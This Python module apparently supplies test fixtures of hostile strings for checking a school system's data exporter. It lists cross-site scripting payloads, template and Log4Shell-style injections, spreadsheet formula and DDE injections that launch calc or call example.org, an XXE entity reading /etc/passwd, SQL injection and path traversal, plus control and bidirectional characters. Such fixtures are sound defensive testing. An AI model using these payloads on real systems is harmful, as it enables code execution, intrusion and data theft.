"""Texts that do harm where an exporter lets them: what a school's system, or somebody who can type into it, may hold as a name."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//example.org/x.js>",
    "<<script>alert(1)//<</script>", "<script\x0c>alert(1)</script>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</script>",
    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</select></form><script>alert(1)</script>", "</svg><script>alert(1)</script>", "</bdi></b></th><script>alert(1)</script>",
    "</td></tr></table><img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<input autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x",
    "<form action=//example.org><input name=x>", "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<base href=//example.org>",
    "<meta http-equiv=refresh content='0;url=//example.org'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<plaintext>",
    "<xmp><script>alert(1)</script>", "<!-- ", "-->", "--!><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
    "--><!DOCTYPE html><base href=//example.org>", "]]>", "]]><![CDATA[", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?>", "<?php echo 1 ?>", "<% alert(1) %>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<", ">",
    "<>", "</", "<a", "< script >", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203aalert(1)\u2039/script\u203a",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=",
)  # fmt: skip
ATTRIBUTES = (
    '"', '""', "''", "`", '"><svg onload=alert(1)>', "'><svg onload=alert(1)>", '" onmouseover="alert(1)', "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)", '" autofocus onfocus=alert(1) x="', "x onmouseover=alert(1)", '"/><script>alert(1)</script>', "\\\"",
    "\\'", '" style="background:url(//example.org)', '" class="off', '" id="list', '" href="javascript:alert(1)', '"]', "']", "a=b",
    "a b c", "x\" data-tier=\"priority", "#row-1", "?q=1&copy=2", "a|b|c", "priority", "__proto__", "constructor", "toString",
)  # fmt: skip
STYLES = (
    "}</style><style>*{display:none}", "body{display:none}", "*{background:url(https://example.org)}", "@import url(//example.org)",
    "expression(alert(1))", "-moz-binding:url(//example.org)", "/* ", " */", "width:9999%", "\\26 ", "color:red;position:fixed",
    "<link rel=stylesheet href=https://example.org/x.css><style>@import url(//example.org)</style>", "<style>p{x:expression(1)}</style>",
)  # fmt: skip
ENTITIES = (
    "&lt;b&gt; &amp; &#60;script&#62; &nbsp;", "&amp;amp;", "&", "&&", "&;", "&#0;", "&#x0;", "&#xD800;", "&#1114112;", "&#x26;lt;",
    "&quot", "&apos;", "&lt", "&copy=1", "&NewLine;", "&Tab;", "&#39;", "AT&T", "&notit;", "_x003C_", "_x0000_", "_x005F_x0041_",
    "_x0041_", "x_",
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 7 }}", "{% raw %}", "{% endraw %}", "{# comment #}", "{{ config }}", "{%% x %%}", "{0}", "{}", "{day}", "{pupil}", "{who}",
    "{link}", "{0.__class__}", "{rank!r}", "{:>999}", "%s", "%(name)s", "%d", "%n", "%%", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]",
    "$(id)", "`id`", "${jndi:ldap://example.org/a}", "{{constructor.constructor('alert(1)')()}}", "{", "}", "{{", "}}", "{%", "%}", "\\1",
    "\\g<0>", "\\n", "\\", "$1", "$&",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=1+1;2", "+1+1", "-1+1", "@SUM(1)", "@A1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=HYPERLINK("https://example.org")', '=HYPERLINK("https://example.org?x="&A1;"click")', '=WEBSERVICE("https://example.org")',
    '=IMPORTXML("https://example.org","//a")', '=IMPORTDATA("https://example.org")', '=IMAGE("https://example.org/x.png")',
    "=IFERROR(1/0,1)", "=A1", "=$A$1", "={1,2}", "{=1+1}", "=", "+", "-", "@", "==1", "=-1", "+-1", "--1", "++1", "@@", "=\n1", "= 1+1",
    "=\"x\"", "='x'", "=x'", "=(1)", "=\u202e1", " =1+1", "  =1+1", "\u00a0=1+1", "\u3000=1+1", "\u2003=1+1", "\t=1+1", "\r=1+1",
    "\n=1+1", "\r\n=1+1", "\x0b=1+1", "\x0c=1+1", "\x00=1+1", "\u200b=1+1", "\ufeff=1+1", "\u200e=1+1", "\u202e=1+1", "\u00ad=1+1",
    "'=1+1", "''=1+1", "'''=1+1", "' =1+1", " '=1+1", "'+1", "'-1", "'@x", "'\t=1", "'", "' ", "\"=1+1\"", "\"=1+1", "\"\",=1+1",
    "\",\"=1+1", "',=1+1", "x,=1+1", "x;=1+1", "x|=1+1", "x\t=1+1", "x\n=1+1", "x\r=1+1", "x\r\n=1+1", "x; =1+1", "x;'=1+1", "x;''=1+1",
    "x\n+1", "x;-1", "x;@x", "x\n\n=1", ";=1", ";;=1", "|=1", ",=1", "\n=1;=1", "x;=1;=1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1",
    "\uff201+1", "'\uff1d1", "x;\uff1d1", "\u22121", "\u20131", "%=1", "=1\x00", "sep=;", "SEP=|", "\tx", "\rx", "\nx", "'\tx", "\t",
    "\r", "\n", "\r\n",
)  # fmt: skip
MARKS = (
    "\u202eevil\u202c", "\u2066x\u2069 \u2069\u2069 \u200f", "\u202d\u202e\u202a\u202b", "\u2067\u2066", "\u200e\u200f\u061c", "\u202e",
    "abc\u202etxt.exe", "\u05e9\u05dc\u05d5\u05dd", "\u0645\u062d\u0645\u062f", "Ann \u0645\u062d\u0645\u062f 9A", "\u200b", "A\u200bnn",
    "A\u200dnn", "A\u200cnn", "\u2060", "\ufeffAnn", "Ann\ufeff", "\u00adAnn\u00ad", "e\u0301", "\u00e9",
    "Z\u0351\u034a\u0363a\u0336\u0321l\u0334g\u0337o\u0338", "\u0301", "o\u0308\u0304", "\u1160", "\u3164", "\u2800", "\u00a0", "\u2028",
    "\u2029", "a\u2028b", "a\u2029b", "a\u0085b", "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb", "\ufffd", "\ufffe", "\uffff",
    "\U0010ffff", "\ue000", "\ufdd0", "i\u0307\u0130\u0131", "\u00df\u1e9e", "\ufb01\ufb02",
)  # fmt: skip
PICTURES = (
    "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f3\ufe0f\u200d\U0001f308",
    "\U0001f1ec\U0001f1e7", "\U0001f44d\U0001f3fd", "1\ufe0f\u20e3", "Ann \U0001f600 Example", "\u2764\ufe0f", "\U0001f600" * 40,
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
)  # fmt: skip
CONTROLS = (
    "\x00", "null\x00and \x1b[31m", "\x1b[2J\x1b]0;x\x07", "\x07", "\x08\x08\x08", "\x7f", "\x80", "\x9b31m", "a\x01b", "a\x1fb", "\x1a",
    "\x04", "\x0e\x0f", "a\x0bb", "a\x0cb", "line\none", "line\r\ntwo", "line\rthree", "\n\n\n", "a\tb", " lead", "trail ",
    "   spaces  kept   ", " ", "  ", "\ud800", "\udfff", "A\ud800", "\udc00B", "\ud83d", "a\udcffb", "\ud83d\ude00x",
)  # fmt: skip
NUMBERS = (
    "007", "-5", "+5", "-0", "0", "1e5", "-1e5", "1E-3", "0x1F", "1,000", "-1,000.5", "1.000,5", "1/2", "2025-01-01", "01/02/2025", "1-2",
    "MAR1", "SEPT2", "12:30", "1e999", "99999999999999999999", "0.1", ".5", "5.", "-.5", "\u00a35", "-\u00a35", "5%", "-5%", "(5)",
    "1 000", "\u0665", "Infinity", "-Infinity", "NaN", "nan", "None", "NA", "N/A", "#N/A", "#REF!", "#DIV/0!", "null", "NULL", "TRUE",
    "False", "true", "yes", "inf", "-inf", "1_000", "7E1", "1D2",
)  # fmt: skip
NAMES = (
    "O'Neill", "Zo\u00eb N\u00ed Dh\u00f3naill-O\u2019Brien", "\u540d\u524d \u82b1\u5b50", "Smith, Ann", 'Ann "Annie" Example',
    "D'Arcy; Ann", "a,b;c\td|e", ",", ";", "|", ",,,", '","', '"""', 'say ""x""', "Ann\\", "C:\\Windows\\System32", "../../etc/passwd",
    "/etc/passwd", "\\\\host\\share", "file:///etc/passwd", "con", "NUL", "https://example.org", "http://example.org/?a=b&c=d",
    "mailto:a@example.org", "internal:Notes!A1", "external:x.xlsx", "ftp://example.org", "www.example.org", "'; DROP TABLE pupils;--",
    "1' OR '1'='1", "[c]", "[x]", "\u2026", "Year 9", "Pupil Form Year 9", "behaviour", "14 February 2026", "9A", "A1", "R1C1", "x" * 300,
    "Ann " * 700, "x" * 3000, "long " * 6600, "y" * 32767, "z" * 32768, "\U0001f600" * 16383 + "x", "\U0001f600" * 16384,
    "=" + "1+" * 16400 + "1",
)  # fmt: skip
# What XlsxWriter would write into a workbook as it is, for XML of its own.
WORKBOOKS = (
    "<r><t>x</t></r>", "<r></r>", "<r>&</r>", "<r></t></si></sst></r>", "<r><t>x</t></si><si><t>y</t></r>", "<r> _x0041_x0042_ </r>", "<r>",
    "</r>", "<si>", "</si></sst>", "<f>1+1</f>", "</t></si>", "<t xml:space='preserve'>x</t>",
)  # fmt: skip
HOSTILE: tuple[str, ...] = (
    *SCRIPTS, *ATTRIBUTES, *STYLES, *ENTITIES, *TEMPLATES, *FORMULAS, *MARKS, *PICTURES, *CONTROLS, *NUMBERS, *NAMES, *WORKBOOKS,
)  # fmt: skip
